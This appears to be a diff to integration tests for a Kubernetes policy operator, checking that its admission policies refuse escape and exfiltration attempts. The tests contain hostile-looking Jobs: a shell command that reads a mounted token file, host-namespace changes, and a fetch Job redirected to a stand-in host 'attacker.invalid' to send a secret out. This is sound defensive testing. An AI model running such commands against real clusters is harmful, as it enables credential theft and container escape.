@@ -28,7 +28,8 @@ import yaml
 from kubernetes.client import ApiClient, ApiException, BatchV1Api, CoreV1Api
 
 from policy_operator import constants as C
-from policy_operator.operator import admission
+from policy_operator.operator import admission, manifests
+from policy_operator.operator.spec import parse_spec
 from tests.support.http_checkpoint_server import CheckpointServer
 from tests.support.local_node_cluster import LocalCluster, OperatorProcess, for_local_node, free_port_on
 from tests.support.net import wait_for
@@ -170,7 +171,8 @@ def dressed_as_the_operators(job: dict[str, Any], owner: dict[str, Any]) -> dict
     pod = job["spec"]["template"]
     pod["metadata"] = {"labels": labels}
     pod["spec"]["automountServiceAccountToken"] = False
-    pod["spec"]["containers"][0]["command"] = [C.ENTRYPOINT, "fetch", "file:///s/token", "/tmp"]
+    source = owner["spec"]["checkpoint"]["source"]  # its own: the policy reads a fetch against its PolicyServer
+    pod["spec"]["containers"][0]["command"] = [C.ENTRYPOINT, "fetch", source, "/tmp"]
     # the operator's security contexts (the policy pins them: non-root, no privilege, every capability dropped)
     pod["spec"]["securityContext"] = {
         "runAsNonRoot": True,
@@ -195,18 +197,20 @@ def create_job(client: ApiClient, job: dict[str, Any]) -> ApiException | None:
     return None
 
 
-def refused(client: ApiClient, job: dict[str, Any], message: str) -> ApiException:
+def refused(client: ApiClient, job: dict[str, Any], message: str, policy: str = POLICY) -> ApiException:
     """The policy's refusal of ``job`` (waits the short while a freshly installed policy takes to apply)."""
 
-    def attempt() -> ApiException | None:
+    def attempt() -> ApiException | None:  # until the policy as it is now answers (a changed one syncs in seconds)
         exc = create_job(client, job)
-        return exc if exc is not None and exc.status in (403, 422) else None
+        if exc is None or exc.status not in (403, 422):
+            return None
+        return exc if message in json.loads(str(exc.body)).get("message", "") else None
 
     exc = wait_for(attempt, POLICY_SYNC_S, interval=0.5, what=f"{job['metadata']['name']} refused by admission")
     assert exc.body is not None, exc
     body = json.loads(exc.body)
     assert exc.status == 403 and body["reason"] == "Forbidden", body
-    assert f"ValidatingAdmissionPolicy '{POLICY}'" in body["message"] and "denied request" in body["message"], body
+    assert f"ValidatingAdmissionPolicy '{policy}'" in body["message"] and "denied request" in body["message"], body
     assert message in body["message"], body
     return exc
 
@@ -225,7 +229,7 @@ def test_a_job_dressed_as_the_operators_still_may_not_name_an_undeclared_secret(
     refused(env.client, job, message_of("every Secret"))
     # and the other ways out: a shell, a host mount, the pod's token
     shell = copy.deepcopy(job)
-    shell["metadata"]["annotations"] = {C.ANNOTATION_SECRETS: "not-for-the-operator"}
+    shell["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "emptyDir": {}}]
     shell["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "cat /s/token"]
     refused(env.client, shell, message_of("runs `"))
     host = copy.deepcopy(job)
@@ -479,11 +483,23 @@ def test_issue_39_attacks_are_refused_at_admission_naming_the_field(env: Env) ->
         "hostPort": lambda p: p["containers"][0].update(ports=[{"containerPort": 80, "hostPort": 80}]),
     }
     for what, change in shapes.items():
-        job = plain_job("escape", env.owner, "busybox")
+        job = plain_job("escape", env.owner, env.doc["spec"]["image"])
         pod = job["spec"]["template"]["spec"]
         assert create_job(env.client, job) is None, f"{what}: the unchanged shape is the operator's"
         change(pod)
         refused(env.client, job, message_of("host namespace"))
+
+    # the attack's exfiltration: the PolicyServer's own fetch Job, its Secret declared, sent to another host
+    spec = parse_spec(env.doc["spec"], name=NAME, namespace=NS)
+    exfil = manifests.build_fetch_job(spec)
+    exfil["metadata"]["name"] = "exfil"
+    exfil["metadata"]["ownerReferences"] = [owner_reference(env.owner)]
+    command = exfil["spec"]["template"]["spec"]["containers"][0]["command"]
+    assert "--token-file" in command and exfil["metadata"]["annotations"][C.ANNOTATION_SECRETS] == "fetch-token"
+    assert create_job(env.client, exfil) is None, "the operator's own Job, as it is, is admitted"
+    command[2] = "http://attacker.invalid/"
+    children = f"{RELEASE}-policy-operator-children.{NS}"
+    refused(env.client, exfil, "a fetch downloads the PolicyServer's own spec.checkpoint.source", children)
 
     # and the namespace's PodSecurity level refuses the privileged pod a second time, whoever sends it
     label = "pod-security.kubernetes.io/enforce"
